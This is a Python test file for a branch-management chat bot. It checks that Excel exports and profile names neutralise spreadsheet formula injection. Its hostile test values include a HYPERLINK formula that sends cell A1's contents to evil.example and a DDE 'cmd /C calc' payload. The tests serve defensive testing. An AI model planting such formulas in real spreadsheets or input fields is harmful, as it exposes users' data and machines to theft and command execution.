"""Exports cannot carry formulas (issue 17, rule 2): every workbook the bot makes writes text a
spreadsheet would run (``=``, ``+``, ``-``, ``@``, a tab or a carriage return first) as text,
and names taken from a chat profile keep only what a name is made of."""

from __future__ import annotations

import io
from datetime import datetime

from openpyxl import load_workbook

from bot.exports.dues import FORMULA_STARTS
from bot.sandbox.driver import Person
from bot.sandbox.harness import Harness
from tests.conftest import VN
from tests.support import approved_member, create_branch, member_id

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+84 cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


async def _workbook_cells(h: Harness, officer: Person, button: str, title: str) -> list[object]:
    await officer.tap(button)
    document = await officer.find(title)
    assert document.file_id is not None
    book = load_workbook(io.BytesIO(h.sim.files[document.file_id].data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


async def test_hostile_text_in_every_sheet_stays_text(h: Harness) -> None:
    branch = await create_branch(h)
    an = await approved_member(h, branch, 301, "Nguyễn Văn An")
    an_id = await member_id(h, an.id)
    h.manual_clock.set(datetime(2027, 1, 6, 9, 0, tzinfo=VN))
    # Text no form would accept, as an older release or a restored copy might hold it: each
    # column the sheets show that comes from a person.
    db = h.services.db
    await db.execute(
        "UPDATE members SET full_name = ?, phone = ?, home_commune = ? WHERE id = ?",
        (HOSTILE[0], HOSTILE[1], HOSTILE[2], an_id),
    )
    await db.execute(
        "UPDATE placements SET employer = ?, occupation = ?, province = ? WHERE member_id = ?",
        (HOSTILE[3], HOSTILE[4], HOSTILE[5], an_id),
    )
    cells = await _workbook_cells(h, branch.secretary, "📥 Xuất Excel", "Sổ theo dõi của chi bộ")
    for text in HOSTILE:
        assert text in cells, text  # the text reads the same, as text
    await branch.secretary.command("dues")
    listing = await branch.secretary.find("Đảng phí năm 2027")
    await branch.secretary.press("📥 Sổ đảng phí 2027 (Excel)", message=listing)
    document = await branch.secretary.find("Sổ đảng phí năm 2027")
    assert document.file_id is not None
    book = load_workbook(io.BytesIO(h.sim.files[document.file_id].data))
    names = [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert HOSTILE[0] in names
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row)


async def test_an_officers_profile_name_is_cleaned_when_they_join(h: Harness) -> None:
    operator = h.person(900, "Trần Văn Hùng")
    await operator.command("newbranch")
    await operator.next_message()
    await operator.say("Chi bộ ấp 3")
    await operator.next_message()
    await operator.press("Bỏ qua câu này")
    await operator.next_message()
    await operator.press("✅ Xác nhận")
    created = await operator.expect("Đã tạo")
    link = next(word for word in created.body.split() if word.startswith("https://t.me/"))
    secretary = h.person(200, '=HYPERLINK("http://evil.example","Lê Thị Mai")')
    await secretary.open_link(link)
    await secretary.expect("bí thư")
    name = await h.services.db.fetch_value(
        "SELECT full_name FROM members WHERE id = ?", (await member_id(h, 200),)
    )
    assert name == "HYPERLINK http evil.example Lê Thị Mai"
    assert not name.startswith(FORMULA_STARTS)
